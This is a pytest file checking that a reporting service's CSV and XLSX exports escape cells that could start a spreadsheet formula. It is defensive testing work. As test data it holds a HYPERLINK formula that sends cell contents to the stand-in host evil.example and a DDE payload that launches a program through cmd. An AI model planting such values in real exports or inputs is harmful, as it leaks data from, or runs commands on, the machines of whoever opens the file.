"""Exports are data, never formulas (contract §10, issue #26 finding 5): one escaper for every csv
and xlsx; text cells that could start a formula get a leading `'`, workbook text is a string."""

from __future__ import annotations

import csv
import io
from datetime import datetime

import pytest
from openpyxl import Workbook, load_workbook

from services.common.embedded import EmbeddedRunner
from services.common.exportcells import append, cell, csv_bytes
from services.oversight.ledger import BEIJING
from tests.conftest import Api
from tests.helpers import report_body

EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'


def test_openpyxl_stores_text_starting_with_equals_as_a_formula_unless_told() -> None:
    # Why the escaper exists: openpyxl's own inference makes a formula of such text.
    sheet = Workbook().active
    assert sheet is not None
    sheet.append([EVIL])
    assert sheet["A1"].data_type == "f"
    append(sheet, [EVIL])
    assert sheet["A2"].data_type == "s" and sheet["A2"].value == "'" + EVIL


@pytest.mark.parametrize("text", ["=1+1", "+86", "-3", "@SUM(A1)", "\tx", "\rx"])
def test_text_that_could_start_a_formula_gets_a_quote(text: str) -> None:
    assert cell(text) == "'" + text


@pytest.mark.parametrize("value", [-3, -2.5, 0, 12, None, "王小明", "441823", "a=b"])
def test_numbers_and_plain_text_are_written_as_they_are(value: object) -> None:
    assert cell(value) == value


def test_csv_cells_are_escaped_and_numbers_stay_numbers() -> None:
    rows = list(csv.reader(io.StringIO(csv_bytes([[EVIL, -3, "-3"]]).decode("utf-8-sig"))))
    assert rows == [["'" + EVIL, "-3", "'-3"]]


def test_a_sentinel_named_like_a_formula_is_text_in_the_monthly_report(api: Api,
                                                                      runner: EmbeddedRunner) -> None:
    made = api.client.post("/v1/sentinels", json={"name": EVIL, "kind": "school", "region_code": "441823100",
                                                  "first_reporter": "teacher1"}, headers=api.auth("admin1"))
    assert made.status_code == 201, made.text
    api.submit(report_body(), key="f1")
    runner.pump()
    month = datetime.now(BEIJING).strftime("%Y-%m")
    r = api.client.get("/v1/stats/monthly", params={"month": month}, headers=api.auth("supervisor1"))
    assert r.status_code == 200
    book = load_workbook(io.BytesIO(r.content))
    named = [c for row in book["哨点"].iter_rows() for c in row
             if isinstance(c.value, str) and EVIL in c.value]
    assert [(c.value, c.data_type) for c in named] == [("'" + EVIL, "s")]
    assert not [c for sheet in book for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    numbers = [c.value for row in book["概要"].iter_rows(min_row=2) for c in row[1:]]
    assert 1 in numbers  # counts are still numbers
    text = api.client.get("/v1/stats/monthly", params={"month": month, "format": "csv"},
                          headers=api.auth("supervisor1")).content.decode("utf-8-sig")
    assert ["'" + EVIL] == [c for row in csv.reader(io.StringIO(text)) for c in row if EVIL in c]


def test_the_ledger_escapes_through_the_same_cells(api: Api, runner: EmbeddedRunner) -> None:
    api.submit(report_body(children=[{"name": "=cmd|' /C calc'!A0", "age": 9}]), key="l1")
    runner.pump()
    month = datetime.now(BEIJING).strftime("%Y-%m")
    r = api.client.get("/v1/ledger", params={"month": month, "format": "xlsx"},
                       headers=api.auth("supervisor1"))
    assert r.status_code == 200, r.text
    sheet = load_workbook(io.BytesIO(r.content)).active
    assert sheet is not None
    names = [row[3] for row in sheet.iter_rows(min_row=2)]
    assert [(c.value, c.data_type) for c in names] == [("'=cmd|' /C calc'!A0", "s")]
